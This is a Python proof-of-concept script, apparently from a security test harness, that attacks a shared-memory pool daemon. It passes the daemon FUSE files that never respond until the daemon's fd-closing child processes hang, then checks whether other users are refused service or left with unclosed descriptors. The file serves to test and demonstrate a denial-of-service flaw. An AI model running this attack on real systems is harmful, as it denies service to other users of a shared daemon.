# SPDX-License-Identifier: MIT
"""Who may connect passes the daemon files of FUSE whose server never answers, until each of the
children that close such connections hangs. Then no child was left for what others had passed, by
mistake perhaps; and all of that user's connections counted, so that there were as many clients as
there may be, and others were refused.

This needs a kernel on which a socket cannot refuse descriptors.
"""
import contextlib
import glob
import os

import fuse
import raw

SEGMENTS = ("  - { name: NAMEa, allow: anybody, pools: [ { chunk_size: 64, "
            "chunk_count: 100 } ] }\n")
LIMITS = "limits: { clients: 40, clients_per_user: 20 }\n"
# For one child more while so many hang, as the daemon had it.
CROWDS = [1] + [8 << n for n in range(1, 8)]
ATTACKER, OTHER = raw.OTHER_UID, raw.OTHER_UID + 1
EDQUOT = -122


@contextlib.contextmanager
def user(uid):
    """As whom the daemon sees who connects."""
    os.seteuid(uid)
    try:
        yield
    finally:
        os.seteuid(0)


def connect_as(uid, daemon):
    with user(uid):
        return daemon.connect()


def count_children(daemon):
    children = 0
    for path in glob.glob("/proc/[0-9]*"):
        try:
            fields = raw.stat_of(os.path.basename(path))
        except (FileNotFoundError, ProcessLookupError):
            continue
        children += int(fields[1]) == daemon.process.pid
    return children


def hang_children(daemon, files):
    """One file of FUSE for each, and descriptors of no harm in the others of its crowd."""
    null = os.open("/dev/null", os.O_RDONLY)
    for n, crowd in enumerate(CROWDS):
        for i in range(crowd):
            with connect_as(ATTACKER, daemon) as connection:
                if i == 0:
                    files.pass_file(connection, b"x")
                else:
                    connection.pass_fds(b"x", [null])
        if not raw.soon(lambda n=n: count_children(daemon) > n):
            raise RuntimeError(f"there is no child for crowd {n}:\n{daemon.log()}")
    os.close(null)


def is_closed_for(uid, daemon):
    """Whether what this user passes is closed."""
    reader, writer = os.pipe()
    os.set_blocking(reader, False)
    with connect_as(uid, daemon) as connection:
        connection.pass_fds(b"x", [writer])
    os.close(writer)

    def is_over():
        try:
            return os.read(reader, 1) == b""
        except BlockingIOError:
            return False

    closed = raw.soon(is_over)
    os.close(reader)
    return closed


def how_let_in(uid, daemon, nonce):
    """Return: 0 or the error of the refusal."""
    try:
        with user(uid):
            daemon.attach("a", nonce)[0].close()
    except raw.Refused as refused:
        return refused.error
    return 0


def attack(mempoold):
    raw.needs_root()
    *_, (before_exec, kernel) = raw.kernels()
    if before_exec is None:
        raw.not_here(f"{kernel} cannot be made an older one")
    with raw.Daemon(mempoold, SEGMENTS, LIMITS) as daemon:
        if not daemon.start(before_exec):
            raise RuntimeError("the daemon does not start:\n" + daemon.log())
        with daemon.connect() as connection:
            connection.version()
        with fuse.Fuse(daemon.folder) as files:
            hang_children(daemon, files)
            harms = []
            if how_let_in(OTHER, daemon, 1) != 0:
                harms.append("another user is refused")
            if not is_closed_for(OTHER, daemon):
                harms.append("what another user passes is not closed")
            if how_let_in(ATTACKER, daemon, 2) != EDQUOT:
                harms.append("the attacker is let in")
    if harms:
        raw.succeeded("; ".join(harms))
    raw.held_off("others are let in and have theirs closed; the attacker is refused")


raw.main(attack)
